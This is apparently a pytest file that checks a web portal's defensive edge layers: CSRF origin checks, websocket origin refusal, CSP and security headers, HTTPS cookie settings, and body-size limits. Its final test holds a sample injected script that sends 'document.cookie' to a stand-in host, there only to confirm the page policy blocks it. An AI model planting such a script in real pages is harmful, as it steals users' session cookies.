"""The web edge in process: the layers `portal_app/portal_app.py` wraps around the API (portal_app/edge), driven over
ASGI exactly as they are wired: origin checks (CSRF, login CSRF), security headers, HTTPS settings and request body
limits. tests/browser/test_browser_edge.py checks the same against the running app (CORS, websocket, a real browser)."""

from __future__ import annotations

import asyncio
import secrets
from collections.abc import Callable

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlmodel import Session, select
from starlette.types import ASGIApp, Message

from models import ApiKey, Document, Shipment, ShipmentFollower, User, UserSession
from models.enums import Role
from portal_app.api.app import build_api
from portal_app.auth.sessions import SESSION_COOKIE, hash_token
from portal_app.edge import body_limit
from portal_app.settings import load_settings, settings, web_origin
from tests.factories import PASSWORD, World, make_user

CUSTOMER = "customer_user@alfa.test"
EVIL = "http://evil.example"
SAME_HOST_OTHER_PORT = "http://localhost:8081"
MB = 1024 * 1024


def edge_app() -> ASGIApp:
    """The API inside the very layers the Reflex app is given, in their order."""
    from portal_app.portal_app import app as reflex_app

    api, *layers = reflex_app.api_transformer
    assert isinstance(api, type(build_api()))
    stack: ASGIApp = build_api()
    for layer in layers:
        stack = layer(stack)
    return stack


def signed_in(email: str = CUSTOMER) -> TestClient:
    """A browser-like client: signed in with the JSON route, then sending the portal's own Origin."""
    client = TestClient(edge_app())
    resp = client.post("/api/auth/login", json={"email": email, "password": PASSWORD})
    assert resp.status_code == 200, resp.text
    client.headers["Origin"] = settings.public_origin
    return client


def api_key_for(db: Session, world: World, key: str = "ALFA:customer_user") -> str:
    raw = "pk_" + secrets.token_urlsafe(24)
    user = world.users[key]
    db.add(ApiKey(name="edge test", prefix=raw[:8], key_hash=hash_token(raw), user_id=user.id,
                  company_id=user.company_id, scopes="read_write"))
    db.commit()
    return raw


def sessions_of(db: Session, world: World, key: str = "ALFA:customer_user") -> int:
    return db.exec(select(sa.func.count()).select_from(UserSession)
                   .where(UserSession.user_id == world.users[key].id)).one()


def refused(resp) -> bool:
    return resp.status_code == 403 and resp.json()["error"]["code"] == "origin_refused" \
        and resp.json()["error"]["saved"] is False


# ------------------------------------------------------------------------------------------- origins and CSRF


def test_the_allowed_origins_come_from_the_public_url_and_the_extra_list(monkeypatch):
    for name in ("PORTAL_PUBLIC_URL", "PORTAL_ALLOWED_ORIGINS", "PORTAL_PORT"):
        monkeypatch.delenv(name, raising=False)
    assert load_settings().allowed_origins == ("http://localhost:3000", "http://127.0.0.1:3000")
    monkeypatch.setenv("PORTAL_PORT", "8000")
    assert load_settings().allowed_origins == ("http://localhost:8000", "http://127.0.0.1:8000")
    monkeypatch.setenv("PORTAL_PUBLIC_URL", "HTTPS://Portal.Example.com:443/")
    monkeypatch.setenv("PORTAL_ALLOWED_ORIGINS", " https://erp.example.com , http://10.0.0.5:8080")
    assert load_settings().allowed_origins == (
        "https://portal.example.com", "https://erp.example.com", "http://10.0.0.5:8080")
    for bad in ("*", "null", "portal.example.com", "ftp://x.example"):
        monkeypatch.setenv("PORTAL_ALLOWED_ORIGINS", bad)
        with pytest.raises(ValueError, match="PORTAL_ALLOWED_ORIGINS"):
            load_settings()
    assert web_origin("http://[::1]:3000/x", "t") == "http://[::1]:3000"


def test_a_cross_site_form_cannot_sign_anyone_in(world, db):
    client = TestClient(edge_app())
    before = sessions_of(db, world)
    form = {"email": CUSTOMER, "password": PASSWORD, "next": "/portal"}
    for origin in (EVIL, SAME_HOST_OTHER_PORT, "null"):
        resp = client.post("/api/auth/login", data=form, headers={"Origin": origin}, follow_redirects=False)
        assert refused(resp), (origin, resp.status_code, resp.text)
        assert SESSION_COOKIE not in resp.headers.get("set-cookie", "")
    # Without Origin a browser's Referer must name the portal; a form with neither is refused too.
    assert refused(client.post("/api/auth/login", data=form, headers={"Referer": f"{EVIL}/trap"},
                               follow_redirects=False))
    assert refused(client.post("/api/auth/login", data=form, follow_redirects=False))
    assert refused(client.post("/api/auth/login", content=f'{{"email": "{CUSTOMER}", "password": "{PASSWORD}"}}',
                               headers={"Content-Type": "text/plain"}))
    assert sessions_of(db, world) == before

    # The sign-in page's own form (the browser sends the portal's Origin, or its Referer) still works.
    own = client.post("/api/auth/login", data=form, headers={"Origin": settings.public_origin},
                      follow_redirects=False)
    assert own.status_code == 303 and SESSION_COOKIE in own.headers["set-cookie"]
    by_referer = TestClient(edge_app()).post("/api/auth/login", data=form, follow_redirects=False,
                                             headers={"Referer": f"{settings.public_origin}/login?next=/portal"})
    assert by_referer.status_code == 303
    # A program signing in with JSON sends no Origin; a cross-site page cannot send JSON without a preflight.
    by_json = TestClient(edge_app()).post("/api/auth/login", json={"email": CUSTOMER, "password": PASSWORD})
    assert by_json.status_code == 200


EMPTY_FORM = {"content": b"", "headers": {"Content-Type": "application/x-www-form-urlencoded"}}


def test_a_cross_site_form_cannot_sign_anyone_out(world):
    client = signed_in()
    for origin in (EVIL, SAME_HOST_OTHER_PORT, "null"):
        resp = client.post("/api/auth/logout", content=b"", follow_redirects=False,
                           headers={**EMPTY_FORM["headers"], "Origin": origin})
        assert refused(resp)
        assert client.get("/api/auth/me").status_code == 200
    out = client.post("/api/auth/logout", **EMPTY_FORM, follow_redirects=False)  # the page's own Sign out button
    assert out.status_code == 303 and client.get("/api/auth/me").status_code == 401


@pytest.fixture()
def own_customer(db: Session, world: World) -> str:
    """A customer of its own, so what these tests change (follows, profile) touches no other test's user."""
    user = make_user(db, world.companies["ALFA"], Role.CUSTOMER_USER, f"edge-{secrets.token_hex(4)}@alfa.test")
    db.commit()
    return user.email


@pytest.mark.parametrize("method, path, body", [
    ("POST", "/api/v1/notifications/read-all", None),
    ("PUT", "/api/v1/shipments/{ref}/follow", None),
    ("DELETE", "/api/v1/shipments/{ref}/follow", None),
    ("PATCH", "/api/v1/account/profile", {"full_name": "Changed By Someone Else"}),
])
def test_cookie_requests_that_change_something_need_the_portals_origin(world, db, own_customer, method, path, body):
    ref = world.shipments["ALFA"][0]
    shipment_id = db.exec(select(Shipment.id).where(Shipment.reference == ref)).one()
    user = db.exec(select(User).where(User.email == own_customer)).one()
    if method == "DELETE":
        db.add(ShipmentFollower(shipment_id=shipment_id, user_id=user.id))
        db.commit()

    def state() -> tuple[bool, str]:
        db.expire_all()
        return db.get(ShipmentFollower, (shipment_id, user.id)) is not None, db.get(User, user.id).full_name

    before = state()
    client = signed_in(own_customer)
    url = path.format(ref=ref)
    for origin in (EVIL, SAME_HOST_OTHER_PORT, "null"):
        resp = client.request(method, url, json=body, headers={"Origin": origin})
        assert refused(resp), (method, origin, resp.status_code, resp.text)
    # Without Origin, a form-like request (no JSON) shows nothing and is refused; a foreign Referer is too.
    del client.headers["Origin"]
    assert refused(client.request(method, url, content=b"", headers={"Content-Type": "text/plain"}))
    assert refused(client.request(method, url, json=body, headers={"Referer": f"{EVIL}/page"}))
    assert state() == before
    # The portal's own pages (Origin or Referer) and programs sending JSON are served.
    own = client.request(method, url, json=body, headers={"Origin": settings.public_origin})
    assert own.status_code < 400, own.text
    by_referer = client.request(method, url, json=body, headers={"Referer": f"{settings.public_origin}/portal"})
    assert by_referer.status_code < 400, by_referer.text
    if body is not None:
        assert client.request(method, url, json=body).status_code < 400


def test_api_keys_are_not_subject_to_the_origin_check(world, db):
    key = api_key_for(db, world)
    client = TestClient(edge_app(), headers={"Authorization": f"Bearer {key}"})
    ref = world.shipments["ALFA"][1]
    for origin in (None, EVIL, "null"):
        headers = {"Origin": origin} if origin else {}
        assert client.put(f"/api/v1/shipments/{ref}/follow", headers=headers).json() == {"following": True}
        assert client.delete(f"/api/v1/shipments/{ref}/follow", headers=headers).json() == {"following": False}


def test_the_page_websocket_refuses_a_foreign_origin():
    """The layer's own check (Reflex's socket server, configured from the same list, checks it again)."""
    sent: list[Message] = []

    async def inner(scope, receive, send):
        await send({"type": "websocket.accept"})

    async def handshake(origin: str | None) -> list[Message]:
        from portal_app.edge.origins import RequestOriginCheck

        sent.clear()
        headers = [(b"origin", origin.encode())] if origin else []

        async def receive() -> Message:
            return {"type": "websocket.connect"}

        async def send(message: Message) -> None:
            sent.append(message)

        await RequestOriginCheck(inner)({"type": "websocket", "path": "/_event/", "headers": headers}, receive, send)
        return [m["type"] for m in sent]

    assert asyncio.run(handshake(EVIL)) == ["websocket.close"]
    assert asyncio.run(handshake("null")) == ["websocket.close"]
    assert asyncio.run(handshake(settings.public_origin)) == ["websocket.accept"]
    assert asyncio.run(handshake(None)) == ["websocket.accept"]  # a program; browsers always send Origin


# ------------------------------------------------------------------------------------------- security headers

PAGE_HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
}


def assert_security_headers(resp, page: bool = False) -> None:
    for name, value in PAGE_HEADERS.items():
        assert resp.headers.get(name) == value, (resp.request.url, name, resp.headers)
    assert "camera=()" in resp.headers["permissions-policy"]
    csp = resp.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp
    if not page:
        assert csp.startswith("default-src 'none'")


def test_api_answers_errors_and_refusals_carry_the_security_headers(world):
    client = signed_in()
    assert_security_headers(client.get("/api/health"))
    assert_security_headers(client.get("/api/v1/shipments"))
    assert_security_headers(client.get("/api/v1/no-such-thing"))  # 404 in the error shape
    assert_security_headers(TestClient(edge_app()).get("/api/v1/shipments"))  # 401
    assert_security_headers(client.post("/api/v1/notifications/read-all", headers={"Origin": EVIL}))  # 403
    assert_security_headers(client.post("/api/v1/requests", content=b"x" * (2 * MB),
                                        headers={"Content-Type": "application/json"}))  # 413
    assert "strict-transport-security" not in client.get("/api/health").headers  # http: no HSTS


def test_pages_get_a_policy_with_the_hashes_of_exactly_their_inline_scripts():
    from portal_app.edge.headers import inline_script_hashes, page_policy

    html = (b"<html><head><script>window.a = 1;</script><script src=\"/assets/x.js\"></script>"
            b"<script type=\"module\">import \"/assets/y.js\";\r\n</script></head></html>")
    hashes = inline_script_hashes(html)
    # openssl dgst -sha256 -binary | base64, of "window.a = 1;" and of the module text with its CRLF as LF
    assert hashes == ("'sha256-ShPZs6SyOIfeOg7tsGkUC0BIIQiM/4HlSLumBwNEK6k='",
                      "'sha256-cLz5KrEs4KAJ/QY3i6tbyvjKV2ogOYnpKimKILxsOV0='")
    policy = page_policy(hashes)
    assert "script-src 'self' 'unsafe-eval' 'sha256-ShPZ" in policy and "'unsafe-inline'" not in policy.split(
        "script-src")[1].split(";")[0]
    assert "object-src 'none'" in policy and "base-uri 'none'" in policy and "frame-ancestors 'none'" in policy


def test_over_https_the_session_cookie_is_secure_and_hsts_is_sent(world, monkeypatch):
    import portal_app.api.auth_routes as auth_routes
    import portal_app.edge.headers as headers
    import portal_app.edge.origins as origins

    monkeypatch.setenv("PORTAL_PUBLIC_URL", "https://portal.example.com")
    https = load_settings()
    assert https.https and https.cookie_secure and https.public_origin == "https://portal.example.com"
    for module in (auth_routes, headers, origins):
        monkeypatch.setattr(module, "settings", https)
    client = TestClient(edge_app(), base_url="https://portal.example.com")
    resp = client.post("/api/auth/login", json={"email": CUSTOMER, "password": PASSWORD})
    assert resp.status_code == 200
    cookie = resp.headers["set-cookie"]
    assert cookie.startswith(f"{SESSION_COOKIE}=") and "; secure" in cookie.lower() and "httponly" in cookie.lower()
    assert resp.headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
    assert client.get("/api/v1/no-such-thing").headers["strict-transport-security"].startswith("max-age=")
    out = client.post("/api/auth/logout", json={}, headers={"Origin": "https://portal.example.com"})
    assert "; secure" in out.headers["set-cookie"].lower()

    monkeypatch.setenv("PORTAL_PUBLIC_URL", "http://portal.example.com")
    assert not load_settings().cookie_secure
    monkeypatch.setenv("PORTAL_COOKIE_SECURE", "1")
    assert load_settings().cookie_secure  # forced on, e.g. behind a proxy that terminates HTTPS elsewhere


# ------------------------------------------------------------------------------------------- body limits


class EndlessBody:
    """Feeds a request body in chunks without a Content-Length (as `Transfer-Encoding: chunked` arrives) and
    counts how many bytes the app took."""

    def __init__(self, head: bytes, total: int, chunk: int = 64 * 1024) -> None:
        self.head, self.total, self.chunk, self.taken = head, total, chunk, 0

    async def receive(self) -> Message:
        body = self.head if self.taken == 0 else b"x" * min(self.chunk, self.total - self.taken)
        self.taken += len(body)
        return {"type": "http.request", "body": body, "more_body": self.taken < self.total}


def call(app: ASGIApp, method: str, path: str, headers: dict[str, str], receive: Callable) -> tuple[int, bytes]:
    sent: list[Message] = []

    async def send(message: Message) -> None:
        sent.append(message)

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "path": path,
             "raw_path": path.encode(), "query_string": b"", "root_path": "", "scheme": "http",
             "server": ("testserver", 80), "client": ("127.0.0.1", 5000),
             "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()]}
    asyncio.run(app(scope, receive, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    return start["status"], b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")


def cookie_headers(content_type: str) -> dict[str, str]:
    token = signed_in().cookies[SESSION_COOKIE]
    return {"cookie": f"{SESSION_COOKIE}={token}", "origin": settings.public_origin, "content-type": content_type,
            "transfer-encoding": "chunked"}


def test_a_chunked_upload_is_cut_off_at_the_limit_and_nothing_is_stored(world, db, monkeypatch):
    import json

    monkeypatch.setenv("PORTAL_MAX_UPLOAD_MB", "1")
    ref = world.shipments["ALFA"][2]
    files_before = set(settings.files_dir.rglob("*")) if settings.files_dir.exists() else set()
    docs_before = db.exec(select(sa.func.count()).select_from(Document)).one()
    head = (b'--B\r\nContent-Disposition: form-data; name="doc_type"\r\n\r\npacking_list\r\n--B\r\n'
            b'Content-Disposition: form-data; name="file"; filename="big.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
            b"%PDF-1.4\n")
    body = EndlessBody(head, total=60 * MB)
    status, answer = call(edge_app(), "POST", f"/api/v1/shipments/{ref}/documents",
                          cookie_headers("multipart/form-data; boundary=B"), body.receive)
    limit = body_limit.body_limit_for("POST", f"/api/v1/shipments/{ref}/documents")
    assert limit == 1 * MB + 64 * 1024
    assert status == 413 and json.loads(answer)["error"]["code"] == "too_large"
    assert body.taken <= limit + body.chunk, f"the app read {body.taken} bytes of a {limit}-byte limit"
    db.expire_all()
    assert db.exec(select(sa.func.count()).select_from(Document)).one() == docs_before
    assert (set(settings.files_dir.rglob("*")) if settings.files_dir.exists() else set()) == files_before


def test_a_chunked_json_body_is_cut_off_at_the_small_limit(world):
    import json

    body = EndlessBody(b'{"category": "other", "subject": "', total=60 * MB)
    status, answer = call(edge_app(), "POST", "/api/v1/requests", cookie_headers("application/json"), body.receive)
    assert status == 413 and json.loads(answer)["error"]["saved"] is False
    assert body.taken <= body_limit.JSON_LIMIT + body.chunk


def test_a_declared_length_over_the_limit_is_refused_before_any_byte_is_read(world):
    body = EndlessBody(b"", total=60 * MB)
    headers = cookie_headers("application/json") | {"content-length": str(60 * MB)}
    del headers["transfer-encoding"]
    status, _ = call(edge_app(), "POST", "/api/v1/requests", headers, body.receive)
    assert status == 413 and body.taken == 0
    sign_in = {"content-type": "application/json", "content-length": str(body_limit.SIGN_IN_LIMIT + 1)}
    assert call(edge_app(), "POST", "/api/auth/login", sign_in, body.receive)[0] == 413


def test_every_route_that_takes_files_has_its_own_limit_and_the_rest_a_small_one(monkeypatch):
    monkeypatch.setenv("PORTAL_MAX_UPLOAD_MB", "25")
    limit = body_limit.body_limit_for
    assert limit("POST", "/api/v1/shipments/SH1/documents") == 25 * MB + 64 * 1024
    assert limit("POST", "/_upload") == 25 * MB + 64 * 1024  # a page upload names no handler that declares more
    assert limit("POST", "/api/v1/requests/REQ-1/messages") == 5 * 25 * MB + 64 * 1024
    assert limit("POST", "/api/v1/rate-cards/import") == 10 * MB + 64 * 1024
    assert limit("POST", "/api/auth/login") == body_limit.SIGN_IN_LIMIT
    for method, path in (("POST", "/api/v1/requests"), ("PUT", "/api/v1/config/branding/logo"),
                         ("GET", "/api/v1/shipments/SH1/documents"), ("POST", "/api/v1/shipments/SH1/documents/x")):
        assert limit(method, path) == body_limit.JSON_LIMIT
    # Every route the API describes as taking a multipart form is in the table.
    multipart = [(method, path) for path, operations in build_api().openapi()["paths"].items()
                 for method, operation in operations.items()
                 if "multipart/form-data" in operation.get("requestBody", {}).get("content", {})]
    assert len(multipart) >= 2 and all(limit(method, path.replace("{reference}", "X")) > body_limit.JSON_LIMIT
                                       for method, path in multipart), multipart


def test_a_page_upload_may_be_as_large_as_its_handler_declares(monkeypatch):
    """Every page upload arrives at /_upload; the handler named in the request sets the limit (one file unless
    it declares more), so a document upload cannot carry five files' worth of bytes."""
    from reflex_base.registry import RegistrationContext
    from starlette.datastructures import Headers

    import portal_app.portal_app  # noqa: F401  (registers the page states and their handlers)

    monkeypatch.setenv("PORTAL_MAX_UPLOAD_MB", "25")
    limits = {name.rsplit(".", 2)[-2].split("____")[-1] + "." + name.rsplit(".", 1)[-1]:
              body_limit.body_limit_for("POST", "/_upload", Headers({"reflex-event-handler": name}))
              for name in RegistrationContext.get().event_handlers}
    one_file = 25 * MB + 64 * 1024
    assert limits["tower_request_state.send_reply"] == 5 * 25 * MB + 64 * 1024  # a staff reply: five files
    assert limits["portal_request_state.send_reply"] == one_file
    assert limits["portal_shipment_detail_state.upload_document"] == one_file
    assert limits["tower_rates_state.import_file"] == 10 * MB + 64 * 1024
    assert limits["tower_imports_state.import_file"] == 10 * MB + 64 * 1024
    assert limits["config_branding_state.upload_logo"] == 256 * 1024 + 64 * 1024


def test_a_page_may_run_only_the_inline_scripts_of_the_build(world):
    """A script that is not in the compiled pages (text reflected into an HTML answer, say) is not listed in the
    page's policy, so the browser does not run it; the build's own scripts are."""
    from starlette.responses import HTMLResponse

    from portal_app.edge.headers import SecurityHeaders, inline_script_hashes

    own = b"<script>window.theme = 'light';</script>"
    injected = b"<script>fetch('//x.invalid/'+document.cookie)</script>"
    built = frozenset(inline_script_hashes(own))
    page = HTMLResponse(b"<html><head>" + own + b"</head><body>" + injected + b"</body></html>")
    client = TestClient(SecurityHeaders(page, built_hashes=lambda: built))
    csp = client.get("/portal").headers["content-security-policy"]
    script_src = csp.split("script-src")[1].split(";")[0]
    assert inline_script_hashes(own)[0] in script_src
    assert inline_script_hashes(injected)[0] not in script_src
